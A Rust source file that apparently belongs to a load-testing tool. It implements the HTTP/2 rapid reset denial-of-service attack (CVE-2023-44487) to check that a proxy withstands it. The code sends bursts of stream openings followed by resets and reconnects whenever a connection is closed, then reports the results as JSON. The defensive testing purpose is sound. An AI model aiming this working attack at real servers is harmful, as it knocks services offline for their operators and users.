//! `strait-echo rapid-reset`: the HTTP/2 rapid reset attack (CVE-2023-44487) over h2c, to test
//! that a proxy absorbs it (SPEC OPS-4): a burst of HEADERS, then a RST_STREAM for each, burst
//! after burst, reconnecting whenever the server closes the connection.

use std::time::{Duration, Instant};

use http::{Method, Request};
use tokio::net::TcpStream;

use super::json::{self, Value};

/// Distinct error messages kept in a report.
const MAX_ERROR_SAMPLES: usize = 5;
/// A server that will not take a connection in this long has been knocked over.
const CONNECT_TIMEOUT: Duration = Duration::from_secs(5);

#[derive(Clone, Debug)]
pub struct RapidResetOptions {
    pub addr: std::net::SocketAddr,
    /// `:authority` and path of every request.
    pub authority: String,
    pub path: String,
    /// Streams to open and reset, over as many connections as it takes.
    pub streams: u64,
    /// Streams opened together, then reset together: one burst.
    pub burst: usize,
    /// Pause between a burst's HEADERS and its resets.
    pub gap: Duration,
    /// Whether HEADERS carry END_STREAM (a complete GET) or leave the body open.
    pub end_stream: bool,
}

/// What `rapid-reset` did: the line it prints, and what tests read back.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct RapidResetReport {
    /// Streams opened and reset.
    pub streams: u64,
    /// Connections used (a new one each time the server closed the last).
    pub connections: u64,
    /// Connections the server closed or broke.
    pub errors: u64,
    pub error_samples: Vec<String>,
    pub elapsed_ms: u64,
}

/// Runs the attack until `options.streams` streams were opened and reset.
pub fn run(options: &RapidResetOptions) -> RapidResetReport {
    let started = Instant::now();
    let mut report = RapidResetReport::default();
    match tokio::runtime::Builder::new_current_thread().enable_all().build() {
        Ok(runtime) => runtime.block_on(attack(options, &mut report)),
        Err(e) => report.sample_error(format!("cannot start a runtime: {e}")),
    }
    report.elapsed_ms = u64::try_from(started.elapsed().as_millis()).unwrap_or(u64::MAX);
    report
}

async fn attack(options: &RapidResetOptions, report: &mut RapidResetReport) {
    // Every connection that fails before sending a single stream counts toward giving up, so a
    // server that is down ends the run instead of spinning.
    let mut fruitless = 0;
    while report.streams < options.streams && fruitless < 20 {
        report.connections += 1;
        let before = report.streams;
        if let Err(e) = one_connection(options, report).await {
            report.errors += 1;
            report.sample_error(e);
        }
        fruitless = if report.streams == before { fruitless + 1 } else { 0 };
    }
}

async fn one_connection(options: &RapidResetOptions, report: &mut RapidResetReport) -> Result<(), String> {
    let socket = tokio::time::timeout(CONNECT_TIMEOUT, TcpStream::connect(options.addr))
        .await
        .map_err(|_| format!("connect {}: timed out", options.addr))?
        .map_err(|e| format!("connect {}: {e}", options.addr))?;
    let _ = socket.set_nodelay(true);
    let (mut sender, connection) = h2::client::handshake(socket).await.map_err(|e| format!("HTTP/2 handshake: {e}"))?;
    let driver = tokio::spawn(connection);
    let uri = format!("http://{}{}", options.authority, options.path);
    while report.streams < options.streams {
        let mut burst = Vec::new();
        while burst.len() < options.burst && report.streams + (burst.len() as u64) < options.streams {
            sender = sender.ready().await.map_err(|e| format!("connection closed: {e}"))?;
            let request = Request::builder()
                .method(Method::GET)
                .uri(uri.as_str())
                .body(())
                .map_err(|e| format!("bad request: {e}"))?;
            let (_response, stream) =
                sender.send_request(request, options.end_stream).map_err(|e| format!("connection closed: {e}"))?;
            burst.push(stream);
        }
        // The HEADERS go out first, so the server has started on the requests when their
        // resets arrive: what a proxy forwards upstream, unlike streams reset before accept.
        tokio::task::yield_now().await;
        tokio::time::sleep(options.gap).await;
        for stream in &mut burst {
            stream.send_reset(h2::Reason::CANCEL);
        }
        report.streams += burst.len() as u64;
        tokio::task::yield_now().await;
    }
    drop(sender);
    driver.abort();
    Ok(())
}

impl RapidResetReport {
    fn sample_error(&mut self, message: String) {
        if self.error_samples.len() < MAX_ERROR_SAMPLES && !self.error_samples.contains(&message) {
            self.error_samples.push(message);
        }
    }

    pub fn to_json(&self) -> String {
        Value::Object(vec![
            ("streams".into(), self.streams.into()),
            ("connections".into(), self.connections.into()),
            ("errors".into(), self.errors.into()),
            ("error_samples".into(), Value::Array(self.error_samples.iter().map(|s| s.as_str().into()).collect())),
            ("elapsed_ms".into(), self.elapsed_ms.into()),
        ])
        .to_string()
    }

    pub fn from_json(text: &str) -> Result<RapidResetReport, String> {
        let value = json::parse(text)?;
        let number = |key: &str| value.get(key).and_then(Value::as_u64).ok_or_else(|| format!("no number {key:?}"));
        let samples = value.get("error_samples").and_then(Value::as_array).ok_or("no array \"error_samples\"")?;
        Ok(RapidResetReport {
            streams: number("streams")?,
            connections: number("connections")?,
            errors: number("errors")?,
            error_samples: samples.iter().filter_map(|s| s.as_str().map(String::from)).collect(),
            elapsed_ms: number("elapsed_ms")?,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn report_round_trips() {
        let report = RapidResetReport {
            streams: 5000,
            connections: 3,
            errors: 2,
            error_samples: vec!["connection closed: GOAWAY".into()],
            elapsed_ms: 812,
        };
        assert_eq!(RapidResetReport::from_json(&report.to_json()), Ok(report));
    }
}
